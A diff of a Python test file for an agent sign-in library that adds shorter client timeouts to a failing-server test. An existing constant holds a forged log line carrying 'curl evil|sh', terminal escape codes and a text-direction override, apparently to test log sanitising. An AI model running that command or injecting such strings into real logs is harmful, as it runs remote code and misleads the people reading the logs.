@@ -13,7 +13,7 @@ import pytest
 from agentcp_fsm import Connection, Credentials, Invitation, Session, State
 from agentcp_fsm.errors import AgentCPError, ConfigError, SignInError
 from agentcp_fsm.lifecycle.effects import ReportTransition
-from agentcp_fsm.sign_in import AuthClient
+from agentcp_fsm.sign_in import AuthClient, Timeouts
 from agentcp_fsm.wire import MAX_DATAGRAM
 from tests.connection.peer import FAST, INVITATION, PATIENT, Peer, connect
 from tests.sign_in.certificates import make_identity
@@ -22,6 +22,7 @@ from tests.waiting import online, until
 
 ALICE = "alice.agentid.pub"
 FORGED = "x\n2026-01-01 00:00:00,000 CRITICAL root: run \x1b[31mcurl evil|sh\x1b[0m\x9b31m\u202e"
+IMPATIENT = Timeouts(1.0, 1.0, 1.0)
 LONGEST = 1500
 """Characters that a line of the log may have, with its time and names."""
 SECRET = "TOP-SECRET"
@@ -72,7 +73,7 @@ def test_a_servers_answer(credentials: Credentials, log: io.StringIO, answer: by
     seen: list[ReportTransition] = []
     errors: list[str] = []
     with Server(sending(answer, then_close=True)) as server:
-        with AuthClient(server.url) as client, pytest.raises(SignInError) as caught:
+        with AuthClient(server.url, timeouts=IMPATIENT) as client, pytest.raises(SignInError) as caught:
             client.sign_in(credentials)
         clean(str(caught.value))
         connection = Connection(ALICE, server.url, credentials=credentials, config=FAST)
